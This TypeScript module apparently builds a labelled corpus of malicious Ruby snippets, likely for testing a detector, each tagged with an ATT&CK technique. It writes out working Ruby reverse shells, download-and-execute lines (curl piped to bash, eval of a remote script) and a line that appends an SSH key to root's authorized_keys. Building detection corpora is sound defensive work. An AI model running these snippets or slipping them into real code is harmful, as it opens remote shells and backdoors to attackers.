import { type Payload, payloads } from '../payload.ts';

/** Behaviours written in Ruby. */
export const ruby: readonly Payload[] = [
  ...payloads('ruby', 'EXE-REVSH', [
    [
      'rb-rev-exec',
      'malicious',
      'T1059.004',
      (p) =>
        `require 'socket'\ns = TCPSocket.open("${p.ip}", ${p.port})\nexec("/bin/sh", "-i", :in => s, :out => s, :err => s)\n`,
    ],
    [
      'rb-rev-loop',
      'malicious',
      'T1059.004',
      (p) =>
        `require 'socket'\nc = TCPSocket.new("${p.ip}", ${p.port})\nwhile (cmd = c.gets)\n  IO.popen(cmd, "r") { |io| c.print io.read }\nend\n`,
    ],
  ]),
  ...payloads('ruby', 'EXE-DLEXEC', [
    ['rb-dl-system', 'malicious', 'T1105', (p) => `system("curl -s http://${p.ip}/x.sh | bash")\n`],
    ['rb-dl-eval', 'malicious', 'T1105', (p) => `require 'open-uri'\neval(URI.open("http://${p.ip}/s.rb").read)\n`],
  ]),
  ...payloads('ruby', 'PER-SSH', [
    [
      'rb-key-host',
      'malicious',
      'T1098.004',
      (p) => `File.open("/host/root/.ssh/authorized_keys", "a") { |f| f.puts "${p.key}" }\n`,
    ],
  ]),
];
